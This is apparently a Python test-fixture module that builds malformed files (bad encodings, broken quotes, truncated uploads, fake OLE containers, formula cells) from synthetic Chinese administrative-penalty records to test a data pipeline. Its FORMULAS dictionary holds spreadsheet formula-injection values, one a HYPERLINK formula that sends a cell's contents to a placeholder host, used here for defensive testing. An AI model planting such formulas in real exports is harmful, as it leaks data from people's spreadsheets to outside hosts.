"""The bad-input corpus: files as departments' systems really send them when something
goes wrong, built from small hand-made bytes (nothing binary is committed).

Every builder returns the file's bytes for a few realistic 行政处罚 records; the tests in
test_bad_input.py drop them in a landing folder and assert what the pipeline does."""

from __future__ import annotations

import datetime as dt
import io
import random

from creditpipe.devtools.simulators import write_table
from creditpipe.devtools.simulators.market_admin_penalty import Factory as PenaltyFactory

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FORMULAS = {  # what a cell may start with that a spreadsheet would evaluate
    "违法事实": '=HYPERLINK("http://example.invalid/?q="&A2,"详见附件")',
    "处罚依据": "+《中华人民共和国食品安全法》第一百二十二条",
    "处罚内容": "-罚款5000元",
    "备注": "@SUM(1,2)",
}


def records(n: int = 3, seed: int = 11, day: dt.date = dt.date(2026, 10, 9)) -> list[dict]:
    factory = PenaltyFactory(random.Random(seed))
    return [factory.record(day) for _ in range(n)]


def csv_text(recs: list[dict]) -> str:
    """The records as CSV text (lines end in \\r\\n, as Python's csv module and Excel write)."""
    import csv

    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=list(recs[0]))
    writer.writeheader()
    writer.writerows(recs)
    return out.getvalue()


def xlsx_bytes(recs: list[dict], tmp_path) -> bytes:
    path = tmp_path / "_build.xlsx"
    write_table(recs, path, "xlsx")
    data = path.read_bytes()
    path.unlink()
    return data


def mixed_line_endings(recs: list[dict]) -> bytes:
    """One file with \\r\\n, \\n and \\r line ends (rows pasted together from several tools)."""
    lines = csv_text(recs).split("\r\n")
    ends = ["\r\n", "\n", "\r", "\r\n"]
    return "".join(line + ends[i % len(ends)] for i, line in enumerate(lines[:-1])).encode("utf-8")


def mixed_encodings(recs: list[dict]) -> bytes:
    """A UTF-8 export with its last row appended from a GBK export (line 4 of the file)."""
    lines = csv_text(recs).split("\r\n")
    return ("\r\n".join(lines[:-2]) + "\r\n").encode("utf-8") + (lines[-2] + "\r\n").encode("gbk")


def double_encoded(recs: list[dict]) -> bytes:
    """A UTF-8 file opened as GBK in an editor and saved as UTF-8: valid UTF-8, all mojibake."""
    return csv_text(recs).encode("utf-8").decode("gbk", errors="replace").encode("utf-8")


def excel_unicode_text(recs: list[dict], bom: str = "utf-16") -> bytes:
    """Excel's "Unicode 文本" export: UTF-16 (little-endian with a BOM), tab-separated."""
    text = csv_text(recs).replace(",", "\t")
    if bom == "utf-16-be":
        return b"\xfe\xff" + text.encode("utf-16-be")
    return text.encode(bom)


def unclosed_quote(recs: list[dict]) -> bytes:
    """The last row's last cell opens a quote that never closes."""
    text = csv_text(recs).rstrip("\r\n").split("\r\n")
    head, last = text[:-1], text[-1]
    return ("\r\n".join(head) + "\r\n" + last.rsplit(",", 1)[0] + ',"备注未完\r\n').encode("utf-8")


def stray_quote(recs: list[dict]) -> bytes:
    """Row 2 (line 3 of the file) has a quoted cell followed by more text: "名称"有限公司."""
    recs = [dict(r) for r in recs]
    text = csv_text(recs).split("\r\n")
    name = recs[1]["行政相对人名称"]
    text[2] = text[2].replace(name, f'"{name[:4]}"{name[4:]}', 1)
    return "\r\n".join(text).encode("utf-8")


def truncated(data: bytes) -> bytes:
    """An upload cut off half way."""
    return data[: len(data) // 2]


def cfb(streams: list[str]) -> bytes:
    """A minimal OLE compound file (CFB v3, 512-byte sectors): the container of Office
    97-2003 files (a .xls holds a "Workbook" stream) and of password-protected OOXML
    workbooks ("EncryptionInfo" and "EncryptedPackage"). Header, one FAT sector, one
    directory sector holding the root entry and up to three empty streams."""
    if len(streams) > 3:
        raise ValueError("at most three streams fit the one directory sector")
    le = lambda n, size=4: n.to_bytes(size, "little")  # noqa: E731
    header = bytearray(512)
    header[0:8] = OLE_MAGIC
    header[24:26] = le(0x3E, 2)  # minor version
    header[26:28] = le(3, 2)  # major version 3
    header[28:30] = b"\xfe\xff"  # byte order mark
    header[30:32] = le(9, 2)  # sectors of 2^9 bytes
    header[32:34] = le(6, 2)  # mini sectors of 2^6 bytes
    header[44:48] = le(1)  # one FAT sector
    header[48:52] = le(1)  # the directory starts at sector 1
    header[56:60] = le(4096)  # mini stream cutoff
    header[60:64] = le(0xFFFFFFFE)  # no mini FAT
    header[68:72] = le(0xFFFFFFFE)  # no DIFAT sectors
    header[76:512] = le(0) + b"\xff" * 432  # DIFAT: the FAT is sector 0, the rest free
    fat = le(0xFFFFFFFD) + le(0xFFFFFFFE) + b"\xff" * (512 - 8)  # sector 0: FAT; 1: directory

    def entry(name: str, kind: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        out = bytearray(128)
        out[0 : len(raw)] = raw
        out[64:66] = le(len(raw), 2)
        out[66] = kind  # 5 root storage, 2 stream
        out[67] = 1  # black
        out[68:72] = le(0xFFFFFFFF)  # left sibling
        out[72:76] = le(right)
        out[76:80] = le(child)
        out[116:120] = le(0xFFFFFFFE)  # first sector: none (empty)
        return bytes(out)

    entries = [entry("Root Entry", 5, child=1 if streams else 0xFFFFFFFF)]
    for i, name in enumerate(streams, start=1):
        entries.append(entry(name, 2, right=i + 1 if i < len(streams) else 0xFFFFFFFF))
    directory = b"".join(entries).ljust(512, b"\x00")
    return bytes(header) + fat + directory


def encrypted_xlsx() -> bytes:
    return cfb(["EncryptionInfo", "EncryptedPackage"])


def old_xls() -> bytes:
    return cfb(["Workbook"])


def html_as_xls(recs: list[dict]) -> bytes:
    """What many government systems export as "报表.xls": an HTML table."""
    head = "".join(f"<th>{k}</th>" for k in recs[0])
    rows = "".join("<tr>" + "".join(f"<td>{v}</td>" for v in r.values()) + "</tr>" for r in recs)
    return f"<html><head><meta charset='utf-8'></head><body><table><tr>{head}</tr>{rows}</table></body></html>".encode()


def xlsx_with_formula_cells(recs: list[dict], tmp_path) -> bytes:
    """A workbook a program wrote with formulas and no cached results (never opened in Excel)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(recs[0]))
    for rec in recs:
        sheet.append(list(rec.values()))  # openpyxl stores a text starting with = as a formula
    path = tmp_path / "_formulas.xlsx"
    book.save(path)
    data = path.read_bytes()
    path.unlink()
    return data
